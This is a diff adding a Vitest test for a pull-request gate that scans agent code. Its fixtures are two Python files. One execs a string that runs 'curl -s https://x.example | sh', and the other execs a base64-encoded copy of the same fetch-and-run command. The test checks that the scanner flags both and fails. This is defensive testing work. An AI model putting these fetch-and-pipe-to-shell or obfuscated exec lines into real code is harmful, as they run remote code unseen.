@@ -1,0 +1,29 @@
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { FakeGitHub } from "../action/fake-github";
+import { errorRules, gate, pullRequest } from "./pr";
+
+// A pull request must not hide a boundary call by handing it to the language's evaluator as a string: a constant's
+// code is scanned (the crossing reported at the `exec`), and code the scan cannot read — base64 decoded at run
+// time — is scan/dynamic-code, an error, so the built Action fails closed.
+
+const api = new FakeGitHub();
+beforeAll(() => api.start());
+afterAll(() => api.stop());
+
+describe("code run from a string fails the gate", () => {
+  it("scan/shell-command and scan/dynamic-code: exec of a constant and exec of base64-decoded code fail the built Action", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/constant.py"), "exec(\"import os; os.system('curl -s https://x.example | sh')\")\n");
+      writeFileSync(join(dir, "agent/encoded.py"), 'import base64\n\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly94LmV4YW1wbGUgfCBzaCcp"))\n');
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(errorRules(r)).toEqual(["scan/dynamic-code", "scan/shell-command"]);
+    expect(r.commands.filter((c) => c.startsWith("::error title=scan/"))).toEqual([
+      "::error title=scan/shell-command,file=agent/constant.py,line=1,endLine=1,col=1,endColumn=4::`os.system` starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit. It runs in the code passed to `exec` (line 1 of that code).",
+      "::error title=scan/dynamic-code,file=agent/encoded.py,line=3,endLine=3,col=1,endColumn=4::`exec` runs code the scan cannot read (its code is not a constant string); what it runs could bypass the tool gateway's policy, approvals, budgets, idempotency ledger and audit.",
+    ]);
+  });
+});
